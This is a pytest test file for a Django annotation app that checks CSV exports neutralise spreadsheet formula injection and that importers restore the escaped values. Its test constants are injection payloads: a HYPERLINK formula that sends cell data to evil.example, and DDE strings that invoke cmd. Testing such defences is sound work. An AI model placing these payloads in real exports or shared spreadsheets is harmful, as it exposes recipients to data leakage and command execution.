"""CSV formula injection: every export writes through ``studies.csvio``, and
every importer that reads an export back removes the protective quote again."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from annotate import services
from annotate.exports import ground_truth_export
from annotate.imports import ground_truth_import, labels_import
from annotate.models import FinalLabel, Label
from detectors.models import Prediction
from studies import permissions
from studies.csvio import cell_escape, cell_unescape, read_cell, safe_dict_writer, safe_writer
from tests.annotate.gender import final_set, submit
from tests.factories import (
    ItemFactory,
    PredictionFactory,
    PromptFactory,
    StudyFactory,
    UserFactory,
    image_of,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+1"
TAB = "\t=1+1"
CR = "\r=1+1"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_inert(text: str) -> list[list[str]]:
    """No cell of the CSV would run as a spreadsheet formula: every cell that starts with a
    trigger is a plain number. Returns the parsed rows."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or _is_number(cell), f"formula cell {cell!r} in {row}"
    return rows


# --- the cell rules -------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [FORMULA, DDE, AT_SUM, PLUS, TAB, CR, "-", "=", "@", "-x"])
def test_text_starting_with_a_formula_character_gets_a_leading_quote(text):
    assert cell_escape(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["a photo of a nurse", "", "1+1", " =not at the start", "\u20130.25", "'quoted"]
)
def test_other_text_is_written_as_it_is(text):
    assert cell_escape(text) == text


@pytest.mark.parametrize("value", [-0.25, -1, -1.5e-07, Decimal("-3.10"), 0, float("-inf"), True, None])
def test_numbers_and_none_are_written_as_they_are_even_when_negative(value):
    assert cell_escape(value) is value


@pytest.mark.parametrize("text", ["-0.25", "+3", "-1e-05", "-.5", "-12", "+0.0"])
def test_text_that_is_a_plain_number_stays_a_number(text):
    assert cell_escape(text) == text


@pytest.mark.parametrize("text", ["-1+1", "-0.25 ", "-1,5", "-inf", "+1e", "-0x10"])
def test_text_that_only_starts_like_a_number_is_quoted(text):
    assert cell_escape(text) == "'" + text


def test_other_objects_are_written_as_their_text_made_inert():
    class Lazy:
        def __str__(self) -> str:
            return "=1+1"

    assert cell_escape(Lazy()) == "'=1+1"


@pytest.mark.parametrize(
    "text",
    [FORMULA, DDE, AT_SUM, PLUS, TAB, CR, "plain", "", "'", "'=x", "''=x", "'plain", "-0.25", "'-0.25", "-"],
)
def test_unescape_inverts_escape_for_every_string(text):
    assert cell_unescape(cell_escape(text)) == text


def test_a_value_that_really_starts_with_a_quote_before_a_formula_keeps_its_quote():
    assert cell_escape("'=x") == "''=x"
    assert cell_unescape("''=x") == "'=x"


def test_hand_written_cells_with_a_leading_quote_before_a_letter_read_as_before():
    assert cell_unescape("'tis a nurse") == "'tis a nurse"
    assert read_cell("  plain  ") == "plain"
    assert read_cell(None) == ""


def test_the_writers_quote_cells_but_not_numbers_and_not_the_header():
    out = io.StringIO()
    writer = safe_writer(out, lineterminator="\n")
    writer.writerow(["=1+1", -0.25, "-0.25", "ok"])
    writer.writerows([["@x", 3]])
    assert out.getvalue() == "'=1+1,-0.25,-0.25,ok\n'@x,3\n"
    out = io.StringIO()
    dict_writer = safe_dict_writer(out, ["-a", "b"], lineterminator="\n")
    dict_writer.writeheader()
    dict_writer.writerow({"-a": "+cmd", "b": -2})
    dict_writer.writerows([{"-a": "fine", "b": None}])
    assert out.getvalue() == "-a,b\n'+cmd,-2\nfine,\n"


# --- the six exports ----------------------------------------------------------------------------


@pytest.fixture
def hostile(study, annotator_a):
    """A study whose every free-text field is a spreadsheet formula, with a prompt scored -1.0
    (all female) by the humans and by detector "fake"."""
    prompt = PromptFactory(study=study, category="@cat", word=FORMULA, text=DDE)
    mallory = UserFactory(username="-mallory", role=permissions.ANNOTATOR)
    study.annotators.add(mallory)
    items = [
        ItemFactory(prompt=prompt, key="-first.png", t2i_model="sdxl"),
        ItemFactory(prompt=prompt, key="@second.png", t2i_model="sdxl"),
    ]
    for annotator in (annotator_a, mallory):
        services.assignment_queue(study=study, annotator=annotator)
        for item in items:
            submit(item=item, annotator=annotator, value="female")
    for item in items:
        output = {"label": "female", "reason": "", "scores": {}, "detail": AT_SUM}
        PredictionFactory(image=image_of(item), detector="fake", version="1", output=output)
    # The unanimous labels made each final label; the notes come with a researcher's decision.
    final_set(item=items[0], value="female", decided_by=None, note=FORMULA)
    final_set(item=items[1], value="female", decided_by=None, note=PLUS)
    PredictionFactory(
        image=image_of(items[0]), detector="broken", version="1", status="failed", output={}, error=TAB
    )
    return items


def test_ground_truth_export_command_writes_no_formula(hostile):
    out = io.StringIO()
    call_command("export_ground_truth", "--study", "gender", stdout=out)
    rows = assert_inert(out.getvalue())
    first = dict(zip(rows[0], rows[1], strict=True))
    assert [first[c] for c in ("item", "image", "t2i_model", "category", "word", "prompt")] == [
        "'-first.png",
        "'-first.png",
        "sdxl",
        "'@cat",
        "'" + FORMULA,
        "'" + DDE,
    ]
    assert rows[0][-2:] == ["note", "posterior"]
    assert rows[1][-2] == "'" + FORMULA


def test_admin_ground_truth_download_writes_no_formula(hostile, study, client_for, admin_user):
    response = client_for(admin_user).get(reverse("admin:annotate_study_export", args=[study.pk, "csv"]))
    assert response.status_code == 200
    assert "'" + FORMULA in assert_inert(response.content.decode())[1]


def test_api_ground_truth_csv_writes_no_formula(hostile, client_for, researcher):
    response = client_for(researcher).get("/api/ground-truth/", {"study": "gender", "format": "csv"})
    assert response.status_code == 200
    assert "'-mallory" in assert_inert(response.content.decode())[1]


def test_predictions_export_writes_no_formula(hostile):
    out = io.StringIO()
    call_command("export_predictions", "--format", "csv", stdout=out, stderr=io.StringIO())
    header, *rows = assert_inert(out.getvalue())
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert any(row["detail"] == "'" + AT_SUM for row in cells)
    assert any(row["error"] == "'" + TAB for row in cells)


def test_bias_report_csv_writes_no_formula_and_keeps_negative_scores_numbers(hostile):
    out = io.StringIO()
    call_command("bias_report", "--format", "csv", "--table", "prompts", "--study", "gender", stdout=out)
    rows = assert_inert(out.getvalue())
    prompt_row = next(row for row in rows if row and row[0] == "prompts" and row[1] == "sdxl")
    assert prompt_row[2:5] == ["'@cat", "'" + FORMULA, "'" + DDE]
    assert prompt_row[-1] == "-1.0"  # a number, not quoted


def test_report_table_download_writes_no_formula_and_keeps_negative_scores_numbers(
    hostile, client_for, researcher
):
    response = client_for(researcher).get(
        reverse("reports:table", args=["prompt_scores", "csv"]), {"study": "gender", "detector": "fake"}
    )
    assert response.status_code == 200
    rows = assert_inert(response.content.decode())
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert "'" + FORMULA in row
    assert cells["sdxl_human"] == "-1.0"
    assert cells["sdxl_fake"] == "-1.0"


# --- export → import gives back the same values ---------------------------------------------------


def test_ground_truth_export_then_import_gives_back_the_same_paths_users_and_notes(hostile, tmp_path):
    source = hostile[0].study
    export_file = tmp_path / "export.csv"
    export_file.write_text(ground_truth_export(study=source, fmt="csv"), encoding="utf-8")
    fresh = StudyFactory(slug="fresh")
    prompt = PromptFactory(study=fresh)
    for item in hostile:
        ItemFactory(prompt=prompt, key=item.key)
    labels = labels_import(study=fresh, csv_path=export_file)
    assert labels.rejected == []
    truth = ground_truth_import(study=fresh, csv_path=export_file, user=None)
    assert truth.rejected == []
    assert sorted(
        Label.objects.filter(item__study=fresh).values_list("item__key", "annotator__username")
    ) == [
        ("-first.png", "-mallory"),
        ("-first.png", "anna"),
        ("@second.png", "-mallory"),
        ("@second.png", "anna"),
    ]
    notes = dict(FinalLabel.objects.filter(item__study=fresh).values_list("item__key", "note"))
    assert notes == {"-first.png": FORMULA, "@second.png": PLUS}


def test_predictions_export_then_import_gives_back_the_same_rows(hostile, tmp_path):
    fields = ("image__item_images__source_path", "detector", "version", "status", "output", "error")
    before = sorted(Prediction.objects.values_list(*fields))
    path = tmp_path / "predictions.csv"
    call_command("export_predictions", "--format", "csv", "--output", str(path), stderr=io.StringIO())
    Prediction.objects.all().delete()
    call_command("import_predictions", str(path), stdout=io.StringIO())
    after = sorted(Prediction.objects.values_list(*fields))
    # The importer strips cells (as it always did), so the tab in front of the error goes.
    assert after == [row if row[-1] != TAB else (*row[:-1], TAB.strip()) for row in before]
    output = {"label": "female", "reason": "", "scores": {}, "detail": AT_SUM}
    assert ("-first.png", "fake", "1", "ok", output, "") in after
